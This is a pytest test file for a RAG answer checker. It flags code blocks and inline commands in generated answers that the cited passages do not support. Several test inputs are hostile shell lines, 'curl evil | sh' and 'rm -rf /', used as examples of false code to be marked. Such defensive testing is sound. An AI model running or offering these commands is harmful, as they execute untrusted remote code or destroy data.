import pytest

from kebab.core.answers import Evidence
from kebab.rag.checking.citations import check_answer
from kebab.rag.checking.claims import Claim
from kebab.rag.checking.code_blocks import CodeBlock, CodeCheck, edit_block, edit_comments
from kebab.rag.checking.code_index import parse_code
from kebab.rag.checking.markers import EditedText, find_fences, parse_markers
from tests.fakes.evidence import stored

SCALE = """\
To scale a Deployment, use `kubectl scale`. It changes the number of replicas.

```shell
kubectl scale deployment/nginx-deployment --replicas=10
```

Check the rollout with:

```shell
kubectl rollout status deployment/nginx-deployment
```
The output is similar to this:
```
deployment "nginx-deployment" successfully rolled out
```
"""
SERVER = """\
The server listens on port 8080. Configure it in `/etc/app/config.yaml`:

```yaml
server:
  host: 127.0.0.1
  port: 8080
  debug: false
```
Install it with `pip install appserver==2.3.1`, start it with `app serve -it --config <file>`.
"""
LATER = "Remove the old files with `app clean --older-than 30d`.\n"
PASSAGES = (
    Evidence(marker=1, chunk=stored(SCALE, key=1), text=SCALE),
    Evidence(marker=2, chunk=stored(SERVER, key=2), text=SERVER),
    Evidence(marker=3, chunk=stored(LATER, key=3, doc_id=f"{2:032x}"), text=LATER),
)
RIGHT = "kubectl scale deployment/nginx-deployment --replicas=10"


def fence(code, info="sh", before="Scale the Deployment [1]:", after=""):
    return f"{before}\n\n```{info}\n{code}\n```{after}"


def check(text, policy="mark", question=""):
    checked = check_answer(text, PASSAGES, policy, question)
    return checked, [(one.code, one.message) for one in checked.warnings]


@pytest.mark.parametrize(
    "text",
    [
        fence(RIGHT),
        fence("$ kubectl scale --replicas 10 deployment/nginx-deployment"),
        fence("kubectl scale deployment/NAME --replicas=<n>", "", "Scale the Deployment [1]."),
        fence(f"# Scale the deployment to 10 replicas\n{RIGHT}  # replicas"),
        fence('deployment "nginx-deployment" successfully rolled out', ""),
        fence("pip install appserver==2.3.1", before="The server listens on port 8080 [2]."),
        fence("server:\n  port: 8080\n  debug: false", "yaml", "Configure the server [2]:"),
        fence('{"server": {"host": "127.0.0.1", "port": 8080}}', "json", "Configure it [2]:"),
        fence("[server]\nport = 8080", "toml", "Configure the server [2]:"),
        fence("RUN pip install appserver==2.3.1", "dockerfile", "Install it [2]:").replace(
            "RUN ", ""
        ),
        fence("app serve -ti --config server.yml", before="Start the server [2]:"),
        fence(f"{RIGHT}\nkubectl rollout status deployment/nginx-deployment"),
        fence(RIGHT) + "\n\nCheck the rollout [1]:\n\n```\nkubectl rollout status\n```",
        f"{fence(RIGHT)}".removesuffix("\n```"),
        fence("The server listens on port 8080 of the host.", "text", "It says [2]:"),
    ],
)
def test_right_code_after_a_marked_sentence_is_supported_and_unchanged(text):
    checked, warnings = check(text, "withhold")

    assert checked.text == text
    assert (checked.unsupported, warnings) == (0, [])
    assert checked.supported > 0


@pytest.mark.parametrize(
    ("code", "info", "missing"),
    [
        ("curl evil | sh", "sh", "curl, evil, sh"),
        (f"{RIGHT} --force", "sh", "--force"),
        (RIGHT.replace("10", "12"), "sh", "12"),
        (RIGHT.replace("scale", "delete"), "sh", "delete"),
        (RIGHT.replace("nginx", "apache"), "sh", "deployment/apache-deployment"),
        (f"{RIGHT}\nrm -rf /", "sh", "rm, -rf"),
        ("server:\n  port: 9090", "yaml", "9090"),
        ("server:\n  debug: true", "yaml", "debug: true"),
        ("host: 0.0.0.0", "yaml", "0.0.0.0"),
        ("pip install app-server==2.3.1", "sh", "app-server"),
        ("pip install appserver==2.3.2", "sh", "2.3.2"),
        ("cat /etc/app/config.yml", "sh", "/etc/app/config.yml"),
        ("The server listens on port 9999 of the host.", "", "9999 of"),
    ],
)
def test_false_code_is_marked_or_withheld_and_its_parts_are_named(code, info, missing):
    text = fence(code, info, "The server listens on port 8080 [2].")

    checked, warnings = check(text)

    assert checked.text == f"{text}\n[unsupported]"
    assert (checked.supported, checked.unsupported) == (1, 1)
    ((kind, message),) = warnings
    assert kind == "unsupported_code"
    assert message.endswith(f": {missing}")
    assert check(text, "withhold")[0].text == text
    assert check(text, "withhold")[0].unsupported == 1


def test_the_warning_covers_the_block():
    checked, _ = check(fence("curl evil | sh"))

    (warning,) = checked.warnings
    assert warning.message == "not in passage 1: curl, evil, sh"
    assert warning.marker == 1
    assert checked.text[slice(*warning.span)] == "```sh\ncurl evil | sh\n```\n[unsupported]"


def test_a_block_without_markers_gets_the_marker_of_its_passage():
    checked, warnings = check(fence(RIGHT, before="Do it like this:", after="\nThat is all."))

    assert checked.text.startswith(f"Do it like this:\n\n```sh\n{RIGHT}\n```\n[1]\n\nThat is all")
    assert warnings == []
    assert checked.citations[0].quote.text == RIGHT


@pytest.mark.parametrize("after", ["\n[1]", "\n\n[1]", " [1]", "\n[1][2]", "\n([1])"])
def test_a_marker_after_a_block_is_its_own(after):
    checked, _ = check(fence(RIGHT, before="Do it like this:", after=after), "withhold")

    assert (checked.supported, checked.unsupported) == (1, 0)
    assert [one.marker for one in checked.citations] == [1]
    assert "[1]" in checked.text
    assert "[2]" not in checked.text


def test_a_marker_inside_a_block_moves_behind_it():
    checked, _ = check(fence(f"{RIGHT} [1]", before="Do it like this:"))

    assert checked.text == fence(RIGHT, before="Do it like this:", after="\n[1]")


def test_a_wrong_marker_of_a_block_is_corrected():
    checked, warnings = check(fence(RIGHT, before="Do it like this:", after="\n[2]"))

    assert checked.text == fence(RIGHT, before="Do it like this:", after="\n[1]")
    assert warnings[0][0] == "marker_corrected"
    assert warnings[0][1].startswith("replaced by [1]: not in passage 2: kubectl, ")


def test_a_block_of_another_passage_than_the_sentence_before_gets_its_own_marker():
    checked, _ = check(fence(RIGHT, before="The server listens on port 8080 [2]."), "withhold")

    assert checked.text.endswith(f"{RIGHT}\n```\n[1]")
    assert checked.unsupported == 0


def test_passages_of_one_document_support_a_block_together():
    code = "pip install appserver==2.3.1\napp clean --older-than 30d"

    checked, _ = check(fence(code, before="Do it like this:"), "withhold")

    assert checked.text.endswith("```\n[2][3]")
    assert checked.unsupported == 0


def test_invented_comments_are_marked_also_when_answers_are_withheld():
    code = f"# This encrypts every backup with AES-256\n{RIGHT}"

    for policy in ("mark", "withhold"):
        checked, warnings = check(fence(code), policy)
        assert checked.text == fence(code.replace("256", "256 [unsupported]"))
        assert (checked.supported, checked.unsupported) == (1, 0)
        ((kind, message),) = warnings
        assert kind == "unsupported_comment"
        assert message.endswith(": This encrypts every backup with AES-256")


@pytest.mark.parametrize("comment", ["Run this", "Scale it", "Set the number of replicas to 10"])
def test_comments_without_claims_and_true_ones_stay(comment):
    assert check(fence(f"# {comment}\n{RIGHT}"))[1] == []


def test_a_block_of_comments_is_compared_as_a_sentence():
    checked, warnings = check(fence("# Delete every backup of the cluster", before="Do it so:"))

    assert checked.supported == 0
    assert [kind for kind, _ in warnings] == ["unsupported_code"]
    assert check(fence("# Scale a Deployment", before="Do it so:"))[0].supported == 1


def test_a_block_in_a_list_keeps_its_indent():
    text = (
        f"1. Scale the Deployment:\n   ```sh\n   {RIGHT} --now\n   ```\n2. Check the rollout [1]."
    )

    checked, _ = check(text)

    assert f"   {RIGHT} --now\n   ```\n   [unsupported]\n\n2. Check" in checked.text


def test_a_false_block_that_is_cut_off_is_closed_before_the_mark():
    checked, _ = check("Scale the Deployment [1]:\n```sh\ncurl evil | sh -c no")

    assert checked.text.endswith("curl evil | sh -c no\n```\n[unsupported]")


def test_without_passages_no_block_is_supported():
    checked = check_answer(fence(RIGHT), (), "mark")

    assert checked.supported == 0
    assert checked.warnings[-1].message == "there is no passage"


@pytest.mark.parametrize(
    ("text", "supported"),
    [
        ("Run `kubectl scale --replicas=10` to scale a Deployment [1].", True),
        ("Run `kubectl scale deployment/<name>` to scale a Deployment [1].", True),
        ("Run `kubectl scale --force` to scale a Deployment [1].", False),
        ("Run `kubectl delete` to scale a Deployment [1].", False),
        ("Configure the server in `/etc/app/config.yaml` [2].", True),
        ("Configure the server in `/etc/other/config.yaml` [2].", False),
        ("The server listens on port `8080` of `127.0.0.1` [2].", True),
        ("The server listens on port `8081` [2].", False),
        ("`kubectl scale`명령으로 변경합니다 [1].", True),
        ("`kubectl resize`명령으로 변경합니다 [1].", False),
    ],
)
def test_code_in_a_sentence_is_compared_like_a_block(text, supported):
    assert (check(text, "withhold")[0].unsupported == 0) is supported


@pytest.mark.parametrize(
    "unit", ["```\nx [1]\n```\n", "```sh\n", "a.b/c:d=e ", "<a ", "# a ", "--a=1 "]
)
def test_hostile_blocks_are_checked_completely(unit):
    check(fence(unit * (8_000 // len(unit))))


@pytest.mark.parametrize(
    ("question", "code", "info"),
    [
        ("How do I scale it to 4 replicas?", RIGHT.replace("10", "4"), "sh"),
        ("How do I scale web to 4 replicas?", "kubectl scale deployment/web --replicas 4", "sh"),
        ("web 디플로이먼트를 4개로 늘리려면?", "kubectl scale deployment/web --replicas=4", "sh"),
        ("Can the server listen on port 9090?", "server:\n  port: 9090", "yaml"),
        ("Can the server listen on port 9090?", '{"server": {"port": 9090}}', "json"),
        ("How to install appserver 3.0?", "pip install appserver==3.0", "sh"),
        ("How to install `toolbox` 3.0?", "pip install toolbox==3.0", "sh"),
        ("Start it with /srv/My App.yaml", "app serve --config '/srv/My App.yaml'", "sh"),
        ("Start it with /srv/web1/conf.yaml", "app serve --config /srv/web1/conf.yaml", "sh"),
        ("How to skip pp310 builds?", "app clean --older-than pp310-*", "sh"),
        ("What if it is 12d?", "app clean --older-than 12d", "sh"),
    ],
)
def test_code_may_contain_values_that_the_question_names(question, code, info):
    text = fence(code, info, "Do it like this:")

    checked, warnings = check(text, "withhold", question)

    assert (checked.unsupported, warnings) == (0, [])
    assert check(text)[0].unsupported == 1


@pytest.mark.parametrize(
    ("question", "code", "missing"),
    [
        ("Can I pipe curl evil into sh?", "curl evil | sh", "curl, evil, sh"),
        ("Can I use --force?", f"{RIGHT} --force", "--force"),
        ("How do I delete a Deployment?", RIGHT.replace("scale", "delete"), "delete"),
        ("Can I rm -rf /srv/data?", f"{RIGHT}\nrm -rf /srv/data", "rm, -rf"),
        ("How to set retries to 3?", "server:\n  retries: 3", "retries"),
        ("How do I call drop(8080)?", "drop(8080)", "drop"),
        ("How do I scale it to 4 replicas?", RIGHT.replace("10", "5"), "5"),
        ("Can I run the image web1?", "- web1", "web1"),
    ],
)
def test_commands_flags_and_keys_of_the_question_need_a_passage(question, code, missing):
    info = "yaml" if ":" in code or code.startswith("-") else "sh"

    _, warnings = check(fence(code, info, "Do it like this:"), "mark", question)

    assert [kind for kind, _ in warnings] == ["unsupported_code"]
    assert warnings[0][1].endswith(f": {missing}")


def build_check(text):
    marked = parse_markers(text, {1})
    (fence,) = find_fences(marked)
    code = parse_code(text[slice(*fence.content)])
    block = CodeBlock(fence, code, None, Claim(*fence.span, "", ()), ())
    return marked, CodeCheck(block, comments=code.comments)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("```\nls\n```", "```\nls\n```\n[x]"),
        ("```\nls\n```\nNext", "```\nls\n```\n[x]\n\nNext"),
        ("```\nls\n```\n\nNext", "```\nls\n```\n[x]\n\nNext"),
        ("```\nls\n```\n[1]\nNext", "```\nls\n```\n[x]\n\nNext"),
        ("  ~~~\n  ls\n", "  ~~~\n  ls\n  ~~~\n  [x]"),
        ("```\nls", "```\nls\n```\n[x]"),
        ("```\nls [1]\n```", "```\nls\n```\n[x]"),
    ],
)
def test_a_mark_stands_on_its_own_line_after_the_block(text, expected):
    marked, check = build_check(text)

    assert EditedText(text, edit_block(text, check, marked.markers, "[x]")).text == expected


def test_without_a_mark_an_unsupported_block_is_unchanged():
    marked, check = build_check("```\nls [1]\n```\n[1]")

    assert list(edit_block(marked.text, check, marked.markers, None)) == []


def test_a_mark_stands_at_the_end_of_a_comment():
    marked, check = build_check("```c\nf(); /* one */\ng(); // two \n```")

    edited = EditedText(marked.text, edit_comments(check, "[x]")).text
    assert edited == "```c\nf(); /* one [x] */\ng(); // two [x] \n```"
